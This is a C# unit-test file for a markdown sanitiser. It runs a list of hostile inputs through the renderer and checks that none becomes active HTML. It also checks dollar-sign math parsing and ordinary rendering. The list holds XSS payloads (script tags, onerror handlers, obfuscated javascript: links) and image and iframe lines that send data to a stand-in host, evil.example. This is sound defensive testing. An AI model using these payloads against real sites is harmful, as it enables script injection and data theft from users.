using CsCheck;
using LatencyPortal.Controls.Markdown;
using Markdig.Syntax;
using Xunit;

namespace LatencyPortal.Tests.Controls.Markdown;

public sealed class SafeMarkdownTests
{
    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](java\tscript:alert(1))",
        "[a](java&Tab;script:alert(1))",
        "[a]( javascript:alert(1))",
        "[a](\u0001javascript:alert(1))",
        "[a][b]\n\n[b]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "[a](vbscript:x)",
        "[a](file:///etc/passwd)",
        "[a](ms-word:ofe|u|http://x)",
        "[a](//evil.example/x)",
        "[a](/\\evil.example/x)",
        "[a](http://x){onclick=alert(1)}",
        "# heading {onclick=alert(1)}",
        "![a](http://evil.example/?q=secret)",
        "![a](//evil.example/p.png)",
        "![](data:image/svg+xml,<svg onload=alert(1)>)",
        "![v](https://www.youtube.com/watch?v=abc)",
        "```\"><img src=x onerror=alert(1)>\ncode\n```",
        "[a](http://x \"t\\\" onclick=alert(1) x=\\\"\")",
        "[a](http://x\"onclick=alert(1))",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=http://evil.example></iframe>",
        "| a |\n|---|\n| <b onmouseover=alert(1)> |",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void ToHtml_HostileText_NeverBecomesActiveAtAnyPrefix(string markdown)
    {
        for (var length = 1; length <= markdown.Length; length++)
            HarmlessHtml.Check(SafeMarkdown.ToHtml(markdown[..length]));
    }

    [Fact]
    public void ToHtml_AnyMixOfHostileParts_NeverBecomesActive()
    {
        string[] parts = [.. Hostile.Select(row => row.Data), "\n", "\n\n", "- ", "> ", "**", "`", "[", "](", ")", "text "];
        Gen.Int[0, parts.Length - 1].Array[1, 12]
            .Select(choice => string.Concat(choice.Select(i => parts[i])))
            .Sample(markdown => HarmlessHtml.Check(SafeMarkdown.ToHtml(markdown)), iter: 2_000);
    }

    [Theory]
    [InlineData("It costs $5 and the formula is $x^2$ here.", "x^2")]
    [InlineData("Plans: $5/month or $10/month; energy is $E=mc^2$", "E=mc^2")]
    [InlineData("Between $5-$10, about $7, or 10$ more", "")]
    [InlineData("Paid $5 and 10$ more", "")]
    [InlineData("$1 + 1 = 2$ and $4ac$", "1 + 1 = 2|4ac")]
    [InlineData("$2 \\sin x \\text{ if it holds}$", "2 \\sin x \\text{ if it holds}")]
    [InlineData("$a \\$ b$ and $c $ d$", "a \\$ b")]
    public void ToHtml_Dollars_PricesAreNoFormulas(string markdown, string formulas) =>
        Assert.Equal(formulas, string.Join('|', SafeMarkdown.Parse(markdown).Descendants<MathInline>().Select(math => math.Tex)));

    [Theory]
    [InlineData("[a](https://example.org/x?y=1)", "<a href=\"https://example.org/x?y=1\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">a</a>")]
    [InlineData("[a](/help/ttft)", "<a href=\"/help/ttft\">a</a>")]
    [InlineData("<me@example.org>", "<a href=\"mailto:me@example.org\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">me@example.org</a>")]
    [InlineData("[a](javascript:x)", "<p>a</p>")]
    [InlineData("![cat](http://x/cat.png)", "<p><button type=\"button\" class=\"lp-image\" data-image=\"http://x/cat.png\"")]
    [InlineData("# big", "<h3>big</h3>")]
    [InlineData("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>")]
    [InlineData("- [x] done", "<input type=\"checkbox\" disabled=\"\" checked=\"\" aria-label=\"done\">")]
    [InlineData("~~old~~", "<del>old</del>")]
    [InlineData("```cs\nvar a = 1 < 2;\n```", "<span>cs</span>")]
    [InlineData("```cs\nvar a = 1 < 2;\n```", "<code data-language=\"cs\">var a = 1 &lt; 2;&#xA;</code>")]
    public void ToHtml_OrdinaryText_RendersAsExpected(string markdown, string expected) =>
        Assert.Contains(expected, SafeMarkdown.ToHtml(markdown), StringComparison.Ordinal);
}
